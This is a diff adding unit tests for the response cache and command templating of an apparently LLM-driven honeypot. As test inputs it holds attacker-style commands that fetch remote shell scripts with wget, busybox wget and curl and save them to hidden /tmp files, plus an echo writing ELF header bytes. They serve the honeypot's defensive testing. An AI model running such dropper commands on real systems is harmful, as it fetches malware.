@@ -0,0 +1,218 @@
+# python
+"""
+tests/test_llm_cache.py
+Unit tests for the simulate_command response cache and its router integration.
+"""
+from pathlib import Path
+import asyncio
+import json
+import threading
+
+from autopot.llm.cache import ResponseCache, make_cache_key
+from autopot.llm.command_template import template_command
+from autopot.router import Router
+from autopot.session import Session, iso_ts
+
+RESPONSE = {"stdout": "ok", "stderr": "", "exit_code": 0, "explanation": "ok"}
+
+
+class CountingLLMClient:
+    def __init__(self):
+        self.calls = 0
+
+    def simulate_command(self, command, fs, bash_history, *, model=None, base_fs=None):
+        self.calls += 1
+        return {
+            "stdout": f"simulated {command}",
+            "stderr": "",
+            "exit_code": 0,
+            "explanation": "ok",
+        }
+
+
+def _make_session(tmp_path: Path) -> Session:
+    return Session(
+        session_id="test-session",
+        remote_ip="127.0.0.1",
+        remote_port=12345,
+        started_ts=iso_ts(),
+        tty_path=str(tmp_path / "tty.log"),
+        _events_file=str(tmp_path / "events.jsonl"),
+    )
+
+
+def test_cache_key_normalizes_whitespace() -> None:
+    a = make_cache_key("default", "/home/user", "ls   -la ", "fp")
+    b = make_cache_key("default", "/home/user", "ls -la", "fp")
+    c = make_cache_key("default", "/home/user/logs", "ls -la", "fp")
+    assert a == b
+    assert a != c
+
+
+def test_memory_hit_and_lru_eviction() -> None:
+    cache = ResponseCache(max_entries=2)
+    cache.put("a", RESPONSE)
+    cache.put("b", RESPONSE)
+    assert cache.get("a") == (RESPONSE, "memory")
+    cache.put("c", RESPONSE)
+    # "b" was least recently used
+    assert cache.get("b") == (None, None)
+    assert cache.get("a")[1] == "memory"
+    assert cache.counters["evictions"] == 1
+
+
+def test_disk_tier_survives_restart(tmp_path: Path) -> None:
+    db = tmp_path / "cache.sqlite"
+    cache = ResponseCache(path=db)
+    cache.put("key", RESPONSE)
+    cache.close()
+
+    reopened = ResponseCache(path=db)
+    response, tier = reopened.get("key")
+    assert response == RESPONSE
+    assert tier == "disk"
+    # promoted into memory on the first disk hit
+    assert reopened.get("key")[1] == "memory"
+
+
+def test_async_access_keeps_sqlite_off_the_loop(tmp_path: Path) -> None:
+    db = tmp_path / "cache.sqlite"
+    threads = []
+
+    class Recording(ResponseCache):
+        def _disk_lookup(self, key, now):
+            threads.append(threading.get_ident())
+            return super()._disk_lookup(key, now)
+
+        def _store_disk(self, key, created, response):
+            threads.append(threading.get_ident())
+            super()._store_disk(key, created, response)
+
+    async def run(cache, *keys):
+        if keys:
+            return [await cache.aget(key) for key in keys]
+        return await cache.aput("key", RESPONSE)
+
+    assert asyncio.run(run(Recording(path=db))) is True
+    reopened = Recording(path=db)
+    results = asyncio.run(run(reopened, "key", "key", "missing"))
+    assert [tier for _, tier in results] == ["disk", "memory", None]
+    assert threads and threading.get_ident() not in threads
+
+
+def test_ttl_expiry() -> None:
+    cache = ResponseCache(ttl_seconds=-1)
+    cache.put("key", RESPONSE)
+    assert cache.get("key") == (None, None)
+    assert cache.counters["expired"] == 1
+
+
+def test_parse_failures_are_not_cached() -> None:
+    cache = ResponseCache()
+    failure = {
+        "stdout": "",
+        "stderr": "sh: internal parse error",
+        "exit_code": 1,
+        "explanation": "failed to parse LLM output",
+    }
+    assert cache.put("key", failure) is False
+    assert cache.get("key") == (None, None)
+
+
+def test_router_serves_repeat_commands_from_cache(tmp_path: Path) -> None:
+    repo_root = Path(__file__).resolve().parents[1]
+    client = CountingLLMClient()
+    cache = ResponseCache()
+    router = Router(
+        scenarios_root=repo_root / "scenarios", llm_client=client, response_cache=cache
+    )
+    first_session = _make_session(tmp_path)
+    second_session = _make_session(tmp_path)
+
+    first, _ = asyncio.run(router.dispatch(first_session, "netstat -an"))
+    second, _ = asyncio.run(router.dispatch(second_session, "netstat  -an"))
+
+    assert first == second == "simulated netstat -an"
+    assert client.calls == 1
+    # nothing to template, so nothing stored under a template key
+    assert cache.stats()["memory_entries"] == 1
+    events = [
+        json.loads(line)
+        for line in (tmp_path / "events.jsonl").read_text().splitlines()
+    ]
+    cache_events = [e["payload"] for e in events if e["event"] == "llm.cache"]
+    assert [e["hit"] for e in cache_events] == [False, True]
+    assert cache_events[-1]["hits"] == 1
+    assert cache_events[-1]["misses"] == 1
+
+
+def test_command_templates() -> None:
+    a = template_command("wget http://198.51.100.7/bins/x86.sh -O /tmp/.k3x9q2")
+    b = template_command('wget  "http://203.0.113.9:81/bins/x86.sh" -O /tmp/.z81mq0')
+    assert a.text == b.text == "wget '<URL1>' -O '<FILE2>'"
+    assert dict(b.bindings)["<HOST1>"] == "203.0.113.9"
+
+    stored = a.abstract("Connecting to 198.51.100.7:80... 'x86.sh' saved to /tmp/.k3x9q2")
+    assert stored == "Connecting to <HOST1>:80... '<FILE1>' saved to <FILE2>"
+    assert b.fill(stored) == "Connecting to 203.0.113.9:80... 'x86.sh' saved to /tmp/.z81mq0"
+
+    # the output file is templated whatever its name; a URL's file name is
+    # only replaced where it stands on its own
+    c = template_command("wget http://198.51.100.7/bin -O /tmp/bin")
+    assert c.text == a.text
+    assert template_command("busybox wget http://192.0.2.1/mips -O/tmp/x").text == (
+        "busybox wget '<URL1>' '-O<FILE2>'"
+    )
+    assert c.abstract("/usr/bin/wget: 'bin' saved") == "/usr/bin/wget: '<FILE1>' saved"
+    # operands of commands printing contents, and words with a number, are literal
+    assert template_command("cat k8s7d3x1").text == "cat k8s7d3x1"
+    assert template_command("ls admin01 passwd123").text == "ls admin01 passwd123"
+    assert template_command("ls k8s7d3x1").text == "ls '<NAME1>'"
+
+    assert template_command("ping -c 1 192.0.2.1").text == "ping -c 1 '<IP1>'"
+    assert template_command("echo -ne '\\x7f\\x45\\x4c\\x46' >> a").text == "echo -ne '<HEX1>' >> a"
+    # command names, wildcards and variables keep their meaning
+    assert template_command("python3 -V").text == "python3 -V"
+    assert template_command("ls *").text != template_command("ls '*'").text
+    assert template_command("echo $HOME") is None
+    assert a.abstract("<IP1>") is None
+
+
+def test_router_fills_templated_responses(tmp_path: Path) -> None:
+    repo_root = Path(__file__).resolve().parents[1]
+    client = CountingLLMClient()
+    cache = ResponseCache()
+    router = Router(
+        scenarios_root=repo_root / "scenarios", llm_client=client, response_cache=cache
+    )
+    session = _make_session(tmp_path)
+
+    first, _ = asyncio.run(router.dispatch(session, "curl -s http://198.51.100.7/a7k2m9.sh"))
+    second, _ = asyncio.run(router.dispatch(session, "curl -s 'http://192.0.2.44/q9z3x1.sh'"))
+
+    assert first == "simulated curl -s http://198.51.100.7/a7k2m9.sh"
+    assert second == "simulated curl -s http://192.0.2.44/q9z3x1.sh"
+    assert client.calls == 1
+    assert cache.counters["template_hits"] == 1
+
+
+def test_template_hit_report(tmp_path: Path) -> None:
+    from benchmarks.template_hits import load_lookups, replay
+
+    events = tmp_path / "events.jsonl"
+    commands = [
+        "wget http://198.51.100.7/x.sh",
+        "wget http://198.51.100.7/x.sh",
+        "wget http://192.0.2.1/x.sh",
+        "uname -a",
+    ]
+    events.write_text(
+        "\n".join(
+            json.dumps({"event": "llm.simulate_command", "payload": {"command": command}})
+            for command in commands
+        )
+    )
+    report = replay(load_lookups(events))
+    assert (report["lookups"], report["exact_hits"], report["template_hits"]) == (4, 1, 1)
+    assert (report["exact_hit_rate"], report["hit_rate"]) == (25.0, 50.0)
+    assert report["templates"] == {"wget '<URL1>'": 1}